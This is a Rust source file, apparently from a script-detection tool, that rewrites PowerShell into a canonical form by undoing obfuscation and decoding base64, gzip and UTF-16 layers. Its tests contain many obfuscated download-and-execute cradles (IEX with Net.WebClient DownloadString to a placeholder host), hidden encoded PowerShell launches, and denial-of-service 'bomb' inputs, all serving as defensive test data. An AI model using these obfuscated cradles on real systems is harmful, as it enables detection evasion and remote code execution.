//! A script in its canonical form: disguises undone ([`fold`]), names in full and small letters, one space between tokens, a
//! line per statement, machine-specific values as classes ([`mask`]).

use super::fold::{Undone, fold};
use super::token::{ITEM, Kind, Token};
use super::{decode, mask, names};
use crate::text::command::{self, Rules};

/// Texts inside of texts that are decoded: real attacks nest up to four.
pub const LAYERS_MAX: usize = 5;

/// Numbers in a list from which on it is taken for bytes.
const BYTES_MIN: usize = 16;

/// Writes the canonical form of `text`, which stands at raw offset `offset`. With `fixed`, all came from that raw range.
pub fn write(
    text: &str,
    offset: usize,
    fixed: Option<(usize, usize)>,
    layer: usize,
    undone: &mut Undone,
    out: &mut impl FnMut(u8, usize, usize),
) {
    let mut own = Undone { work: undone.work, ..Undone::default() };
    let tokens = fold(text, &mut own);
    add(undone, &own);
    let mut writer = Writer {
        text,
        offset,
        fixed,
        layer,
        undone,
        command: true,
        program: false,
        window: false,
        search: false,
        first: true,
    };
    for token in &tokens {
        writer.token(token, out);
    }
}

struct Writer<'t, 'u> {
    text: &'t str,
    offset: usize,
    fixed: Option<(usize, usize)>,
    layer: usize,
    undone: &'u mut Undone,
    /// A command's name may stand here.
    command: bool,
    /// Parameters of `powershell.exe` follow.
    program: bool,
    /// The value of `-WindowStyle` follows.
    window: bool,
    /// The argument of `Get-Command` follows.
    search: bool,
    first: bool,
}

impl Writer<'_, '_> {
    fn token(&mut self, token: &Token<'_>, out: &mut impl FnMut(u8, usize, usize)) {
        let raw = self.fixed.unwrap_or((token.raw.0 as usize + self.offset, token.raw.1 as usize + self.offset));
        match token.kind {
            Kind::End => {
                out(b'\n', raw.0, raw.1);
                (self.command, self.program, self.window, self.search, self.first) = (true, false, false, false, true);
                return;
            }
            _ if self.first => self.first = false,
            _ => out(b' ', raw.0, raw.0),
        }
        match token.kind {
            Kind::Word => self.word(token, raw, out),
            Kind::Sign => {
                token.text.bytes().for_each(|byte| out(byte, raw.0, raw.1));
                self.command = matches!(token.text.as_ref(), "|" | "{" | "(" | "&" | "=" | "@(" | "&&" | "||" | "}");
            }
            Kind::Bytes => {
                let bytes: Vec<u8> = token.text.chars().take(4).map(|next| next as u32 as u8).collect();
                let class: &[u8] = if decode::is_program(&bytes) { b"<program>" } else { b"<bytes>" };
                class.iter().for_each(|byte| out(*byte, raw.0, raw.1));
                self.command = false;
            }
            Kind::Variable => {
                out(b'$', raw.0, raw.1);
                // What a variable is called is chance, unless the system named it.
                let small = names::variable(&token.text);
                let known = small.starts_with("env:") || KNOWN_VARIABLES.contains(&small.as_str());
                let shown = if known { small.as_str() } else { "v" };
                shown.bytes().for_each(|byte| out(byte, raw.0, raw.1));
                self.command = false;
            }
            Kind::Number => {
                if self.window && token.text == "1" {
                    b"hidden".iter().for_each(|byte| out(*byte, raw.0, raw.1));
                } else {
                    self.text(&token.text, raw, out);
                }
                (self.command, self.window) = (false, false);
            }
            Kind::List => {
                self.list(&token.text, raw, out);
                self.command = false;
            }
            Kind::Text | Kind::Open => {
                self.text(&token.text, raw, out);
                self.command = false;
            }
            Kind::End => {}
        }
    }

    fn word(&mut self, token: &Token<'_>, raw: (usize, usize), out: &mut impl FnMut(u8, usize, usize)) {
        let text = token.text.as_ref();
        let full = if self.window && "hidden".starts_with(names::lower(text).as_ref()) {
            std::borrow::Cow::Borrowed("hidden")
        } else if self.program && text.starts_with(['-', '/']) {
            names::program_parameter(text)
        } else if self.command {
            names::command(text)
        } else if self.search {
            names::wildcard(text).map_or_else(|| names::lower(text), std::borrow::Cow::Borrowed)
        } else {
            names::lower(text)
        };
        self.window = full == "-windowstyle";
        self.search |= full == "get-command";
        self.program |= names::is_powershell(text);
        // Code follows these, too: what was decoded stands right behind.
        let keyword = matches!(
            full.as_ref(),
            "invoke-expression"
                | "-command"
                | "-encodedcommand"
                | "if"
                | "else"
                | "try"
                | "do"
                | "return"
                | "begin"
                | "process"
                | "end"
                | "finally"
        );
        self.command = keyword;
        // A program's place and suffix say nothing where it is the system's own.
        let bare = command::plain(&full, Rules::Dos);
        let name = match &bare {
            _ if names::is_powershell(&full) => "powershell",
            (_, Some(bare)) => bare.as_ref(),
            (skip, None) => full.get(*skip..).unwrap_or(""),
        };
        if name.eq_ignore_ascii_case(text) {
            self.text(text, raw, out);
        } else {
            let place = |_| raw;
            mask::write(name, place, out);
        }
    }

    /// Text, in which packed text is shown unpacked.
    fn text(&mut self, text: &str, raw: (usize, usize), out: &mut impl FnMut(u8, usize, usize)) {
        let start = self.exact(text, raw);
        let place = move |at: usize| match start {
            Some(start) => (start + at, start + at + 1),
            None => raw,
        };
        // A string that may be code is written as code: it may have been decoded, or be about to run.
        if self.layer < LAYERS_MAX && text.contains(char::is_whitespace) && text.contains(['(', ';', '|', '$']) {
            return match start {
                Some(start) => write(text, start, None, self.layer + 1, self.undone, out),
                None => write(text, 0, Some(raw), self.layer + 1, self.undone, out),
            };
        }
        let mut done = 0usize;
        if self.layer < LAYERS_MAX {
            for (from, to) in decode::base64_runs(text) {
                let Some(inner) = text.get(from..to).and_then(decode::base64).and_then(|bytes| decode::text(&bytes))
                else {
                    continue;
                };
                mask::write(text.get(done..from).unwrap_or(""), |at| place(done + at), out);
                self.undone.decodes += 1;
                let whole = (place(from).0, place(to.saturating_sub(1)).1);
                write(&inner, 0, Some(whole), self.layer + 1, self.undone, out);
                done = to;
            }
        }
        mask::write(text.get(done..).unwrap_or(""), |at| place(done + at), out);
    }

    /// Where the token's text stands in the raw text letter by letter, if it does.
    fn exact(&self, text: &str, raw: (usize, usize)) -> Option<usize> {
        if self.fixed.is_some() {
            return None;
        }
        let (from, to) = (raw.0.checked_sub(self.offset)?, raw.1.checked_sub(self.offset)?);
        let written = self.text.get(from..to)?;
        if written == text {
            return Some(raw.0);
        }
        let quote = written.char_indices().nth(1)?.0;
        let inner = written.get(quote..)?;
        inner.starts_with(text).then_some(raw.0 + quote)
    }

    fn list(&mut self, text: &str, raw: (usize, usize), out: &mut impl FnMut(u8, usize, usize)) {
        let items = text.split(ITEM).count();
        if items < BYTES_MIN {
            let plain = text.replace(ITEM, " ");
            return self.text(&plain, raw, out);
        }
        // A long list of numbers is bytes: text, or a program.
        if let Some(bytes) = super::value::bytes(Kind::List, text) {
            if let Some(inner) = decode::text(&bytes).filter(|_| self.layer < LAYERS_MAX) {
                self.undone.codes += 1;
                return write(&inner, 0, Some(raw), self.layer + 1, self.undone, out);
            }
            self.undone.programs += u32::from(decode::is_program(&bytes));
            let class: &[u8] = if decode::is_program(&bytes) { b"<program>" } else { b"<bytes>" };
            return class.iter().for_each(|byte| out(*byte, raw.0, raw.1));
        }
        let plain = text.replace(ITEM, " ");
        self.text(&plain, raw, out);
    }
}

/// Variables that PowerShell or the system names.
const KNOWN_VARIABLES: &[&str] = &[
    "_",
    "null",
    "true",
    "false",
    "args",
    "input",
    "error",
    "host",
    "home",
    "pshome",
    "psscriptroot",
    "pscommandpath",
    "psitem",
    "this",
    "profile",
    "pid",
    "matches",
    "myinvocation",
    "pscmdlet",
    "psboundparameters",
    "psversiontable",
    "erroractionpreference",
    "verbosepreference",
    "progresspreference",
    "executioncontext",
    "lastexitcode",
    "shellid",
    "ofs",
    "psculture",
];

fn add(sum: &mut Undone, more: &Undone) {
    let both = |a: &mut u32, b: u32| *a = a.saturating_add(b);
    both(&mut sum.seen.backticks, more.seen.backticks);
    both(&mut sum.seen.comment_bytes, more.seen.comment_bytes);
    both(&mut sum.seen.quoted_pieces, more.seen.quoted_pieces);
    both(&mut sum.seen.mixed_case, more.seen.mixed_case);
    both(&mut sum.seen.odd_signs, more.seen.odd_signs);
    both(&mut sum.joins, more.joins);
    both(&mut sum.formats, more.formats);
    both(&mut sum.codes, more.codes);
    both(&mut sum.edits, more.edits);
    both(&mut sum.decodes, more.decodes);
    both(&mut sum.programs, more.programs);
    both(&mut sum.evaluated, more.evaluated);
    both(&mut sum.indirect, more.indirect);
    both(&mut sum.variables, more.variables);
    sum.work = more.work;
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        let mut out = Vec::new();
        write(text, 0, None, 0, &mut Undone::default(), &mut |byte, from, to| {
            assert!(from <= to && to <= text.len(), "{from}..{to} of {text}");
            out.push(byte);
        });
        String::from_utf8_lossy(&out).into_owned()
    }

    #[test]
    fn disguises_are_undone() {
        let plain = "invoke-expression ( new-object net.webclient ) . downloadstring ( http://h/a )";
        let cases = [
            "IEX (New-Object Net.WebClient).DownloadString('http://h/a')",
            "iNvOkE-eXpReSsIoN (nEw-ObJeCt NeT.wEbClIeNt).dOwNlOaDsTrInG('http://h/a')",
            "i`e`x (ne`w-obj`ect net.web`client).downloadstring(\"http://h/a\")",
            "&('i'+'ex') (New-Object ('Net.We'+'bClient')).('Down'+'loadString')('ht'+'tp://h/a')",
            "&(\"{1}{0}\" -f 'ex','i') (New-Object Net.WebClient).(\"{1}{2}{0}\"-f'ring','Down','loadSt')('http://h/a')",
            "&([char]105+[char]0x65+[char]'x') (New-Object Net.WebClient).DownloadString('http://h/a')",
            "$a='ie';$b=\"${a}x\";&$b (New-Object Net.WebClient).DownloadString('http://h/a')",
            "&('xei'[-1..-3] -join '') (New-Object Net.WebClient).\"DownloadString\"('http://h/a')",
            "&(-join('x','e','i')[2..0]) (New-Object Net.WebClient).DownloadString('http://h/a')",
            "&('izx'.replace('z','e')) (New-Object Net.WebClient).DownloadString(('qttp:##h#a' -replace 'q','h').Replace('#','/'))",
            "&($env:comspec[4,24,25]-join'') (New-Object Net.WebClient).DownloadString('http://h/a') # a comment",
            "&(-join((105,101,120)|%{[char]$_})) (New-Object Net.WebClient).DownloadString('http://h/a')",
            "&('69,65,78'.split(',')|%{[char]([convert]::toint16($_,16))} | % { $_ }) x",
            ".( $pshome[4]+$pshome[30]+'x') (&(gcm n*w-o*t) Net.WebClient).DownloadString('http://h/a')",
        ];
        for text in cases.iter().take(11) {
            let got = shown(text);
            let tail = got.rsplit('\n').next().unwrap();
            assert_eq!(tail, plain, "{text}\n{got}");
        }
        assert_eq!(shown(cases[11]), plain);
        assert!(shown(cases[13]).contains("invoke-expression"), "{}", shown(cases[13]));
    }

    #[test]
    fn packed_layers_are_opened() {
        let inner = "iex (iwr http://h/a)";
        let plain = "invoke-expression ( invoke-webrequest http://h/a )";
        let utf16: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let b64 = |bytes: &[u8]| super::super::mutate::base64(bytes);
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut gzip, inner.as_bytes()).unwrap();
        let gzip = gzip.finish().unwrap();
        let cases = [
            format!("powershell -nop -w 1 -enc {}", b64(&utf16)),
            format!("powershell.exe -NoP -W Hidden -E {}", b64(&utf16)),
            format!("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))", b64(&utf16)),
            format!(
                "$s='{}';[System.Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($s))|iex",
                b64(inner.as_bytes())
            ),
            format!(
                "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
                b64(&gzip)
            ),
            format!("$x.Arguments='-nop -c $s=FromBase64String(''{}'')'", b64(&gzip)),
        ];
        for text in &cases {
            assert!(shown(text).contains(plain), "{text}\n{}", shown(text));
        }
        assert!(shown(&cases[0]).starts_with("powershell -noprofile -windowstyle hidden"), "{}", shown(&cases[0]));
    }

    #[test]
    fn hostile_scripts_cost_bounded_work() {
        let bombs = [
            "'a'*99999*99999*99999".to_owned(),
            format!("$a='{}';{}", "x".repeat(5000), "$b=$a+$a;$a=$b+$b;".repeat(200)),
            "(".repeat(50_000),
            "'a'+".repeat(20_000),
            "1,".repeat(30_000),
            format!("'{}' -f 1", "{0}".repeat(20_000)),
            "1..99999|%{[char]$_}".repeat(50),
            "iex 'iex ''iex ''''a'''''''".repeat(500),
            "{".repeat(60_000),
            "[".repeat(60_000),
            "a|%{".repeat(10_000) + &"}".repeat(10_000),
        ];
        for bomb in &bombs {
            let mut bytes = 0usize;
            write(bomb, 0, None, 0, &mut Undone::default(), &mut |_, _, _| bytes += 1);
            assert!(bytes < 64 << 20, "{bytes}");
        }
    }
}
